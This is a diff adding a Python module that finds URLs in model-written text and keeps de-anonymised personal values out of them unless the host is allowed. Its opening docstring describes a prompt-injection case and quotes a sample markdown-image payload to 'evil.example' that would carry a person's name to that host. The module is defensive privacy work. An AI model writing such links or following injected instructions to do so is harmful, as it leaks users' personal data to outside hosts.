@@ -1,0 +1,175 @@
+"""Finds web addresses in a text, and keeps originals out of those that a model wrote.
+
+A chat page fetches an image by itself, and a preview fetches a link. A document can ask the model to write
+``![x](https://evil.example/?q=<PERSON_1>)``, and a name put back there would reach that host. So placeholders in an
+address stay, unless the caller allowed the host by name. An address of the caller's that holds an entity is hidden as a
+whole, so it comes back as it was.
+
+All functions take time linear in the text.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Collection, Iterator
+from urllib.parse import quote
+
+from langchain_dp.errors import InvalidParameter
+
+PLACEHOLDER = re.compile(r"<([A-Z][A-Z0-9_]*)_([1-9][0-9]*)>")
+
+_SLASHES = r"(?:\\?[/\\]){2}"
+_BEGINS = re.compile(
+    rf"(?<![A-Za-z0-9+.-])(?:[A-Za-z][A-Za-z0-9+.-]{{0,31}}:{_SLASHES}|(?i:(?:https?|ftps?|wss?):|www\.))"
+    rf"|(?<![\w/:\\]){_SLASHES}(?=[\w<\[])"  # //host, and a Windows share
+    r"|(?<![\w.-])(?:(?:[^\W_]|-)++\.)++(?:[^\W_]{2,24}|[0-9])(?::[0-9]{1,5})?"  # a host without a scheme
+    r"(?=[?#]|/(?![0-9]{1,2}(?![\w/?<])))"  # and before a path; 10.0.0.0/8 has none
+)
+_HOST = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?(?:\\?/){0,2}((?:[^\W_]|[.-])+)(?::[0-9]{1,5})?\\?[/?#]")
+_TOKEN = re.compile(rf"{PLACEHOLDER.pattern}|\s+|\\[\"'`\\]|[\"'<>`()]|[^\s\"'<>`()\\]+|.", re.DOTALL)
+_OPENS = {'"': re.compile(r"[=(]\s*$"), "'": re.compile(r"[=(]\s*$"), "<": re.compile(r"\](?:\(|:)\s*$")}
+_CLOSES = {'"': '"', "'": "'", "<": ">"}
+_SHOWN = 600  # characters of a value in which it shows whether it is an address
+_PUNCTUATION = ".,;:!?]}'*_ \n\u2018\u2019\u201c\u201d\xab\xbb\u2026"
+_OVERLAP = 64  # characters of a word that are looked at once more when it grows
+
+
+def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
+    """Names of hosts, in lower case.
+
+    Raises:
+        InvalidParameter: One is not the name of a host. It is a whole address, for example.
+    """
+    if isinstance(hosts, str) or not all(isinstance(one, str) and re.fullmatch(r"[\w.-]+", one) for one in hosts):
+        raise InvalidParameter(
+            f"`allowed_hosts` ({hosts!r}) must be a list of host names such as ['tickets.example.org']. Leave out "
+            "scheme, port and path."
+        )
+    return frozenset(one.lower() for one in hosts)
+
+
+class AddressScanner:
+    """Follows one text, in one piece or several, and knows whether it stands in an address.
+
+    Args:
+        value: Whether the text is a value by itself, such as an argument of a tool. Whoever fetches such a value
+            encodes its blanks, so all of it is an address if it begins like one.
+    """
+
+    def __init__(self, *, value: bool = False) -> None:
+        self._position = 0
+        self._word = ""  # since the last character that ends an address
+        self._looked = 0  # how much of the word holds no beginning of an address
+        self._from: int | None = None  # where in the word one begins
+        self._depth = 0  # of parentheses in it
+        self._value: str | None = "" if value else None  # the beginning of a value in quotation marks or brackets
+        self._value_begins = 0
+        self._closer = ""
+        self._before = ""
+
+    @property
+    def begins(self) -> int | None:
+        """Where the address begins in which the text has arrived; None outside of an address."""
+        if self._value is not None and _BEGINS.match(self._value.lstrip()):
+            return self._value_begins + len(self._value) - len(self._value.lstrip())
+        if self._from is None:
+            match = _BEGINS.search(self._word, max(0, self._looked - _OVERLAP))
+            self._looked = len(self._word)
+            if match is None:
+                return None
+            self._from = match.start()
+        if self._depth < 0 and self._word[: self._from].endswith("("):
+            return None  # the parenthesis around it is closed
+        return self._position - len(self._word) + self._from
+
+    def host(self) -> str | None:
+        """The host of that address, in lower case; None as long as its name can go on."""
+        value = self._value.lstrip() if self._value is not None else ""
+        match = _HOST.match(value if _BEGINS.match(value) else self._word[self._from or 0 :])
+        return None if match is None else match[1].lower()
+
+    def push(self, token: str, written: int | None = None) -> None:
+        """Go on behind a token: a placeholder, white space, one mark, or other characters.
+
+        Args:
+            token: What a reader sees there.
+            written: How long it is in the text, if it stands there in another form.
+        """
+        self._position += len(token) if written is None else written
+        if token == self._closer and token:
+            self._value, self._closer, self._word = None, "", ""
+        elif self._value is None and token in _OPENS and _OPENS[token].search(self._before):
+            self._value, self._value_begins, self._closer, self._word = "", self._position, _CLOSES[token], ""
+        elif token.isspace() or token in ('"', "<", ">", "`"):
+            self._word = ""
+        else:
+            if token in ("(", ")") and self.begins is not None:
+                self._depth += {"(": 1, ")": -1}[token]
+            self._word += token
+        if not self._word:
+            self._looked, self._from, self._depth = 0, None, 0
+        if self._value is not None and len(self._value) < _SHOWN and token not in _OPENS:
+            self._value += token
+        self._before = (self._before + token)[-8:]
+
+
+def restored(
+    scanner: AddressScanner,
+    text: str,
+    original: Callable[[str], str | None],
+    *,
+    allowed_hosts: Collection[str],
+    left: Callable[[str], object],
+    shown: Callable[[str], str] = str,
+) -> str:
+    """Put the originals back outside of addresses.
+
+    Args:
+        scanner: Follows the text.
+        text: The next piece of the text. It cuts no placeholder.
+        original: Returns the original of a placeholder, or None.
+        allowed_hosts: Hosts in whose addresses originals are put back too, percent-encoded.
+        left: Is given every placeholder that stays.
+        shown: Writes an original.
+    """
+    out = []
+    for match in _TOKEN.finditer(text):
+        token = match[0]
+        known = original(token) if match[1] else None
+        seen = token
+        if known is not None and scanner.begins is None:
+            out.append(shown(known))
+            if _BEGINS.match(known):
+                seen = known  # what is attached to it is a part of that address
+        elif known is not None and scanner.host() in allowed_hosts:
+            out.append(shown(quote(known, safe="")))
+        else:
+            out.append(token)
+            if known is not None:
+                left(token)
+        scanner.push(seen, len(token))
+    return "".join(out)
+
+
+def addresses(text: str) -> Iterator[tuple[int, int]]:
+    """Start and end of every address in a text, without the punctuation behind it."""
+    if not _BEGINS.search(text):
+        return
+    scanner, begins = AddressScanner(), None
+    for match in _TOKEN.finditer(text):
+        scanner.push(match[0])
+        now = scanner.begins
+        if begins is not None and now != begins:
+            yield begins, _end(text, begins, match.start())
+        begins = now
+    if begins is not None:
+        yield begins, _end(text, begins, len(text))
+
+
+def _end(text: str, begins: int, end: int) -> int:
+    """Where an address ends without the punctuation behind it; a parenthesis that it opened belongs to it."""
+    spare = text.count(")", begins, end) - text.count("(", begins, end)
+    while end > begins and (text[end - 1] in _PUNCTUATION or (text[end - 1] == ")" and spare > 0)):
+        end -= 1
+        spare -= text[end] == ")"
+    return end
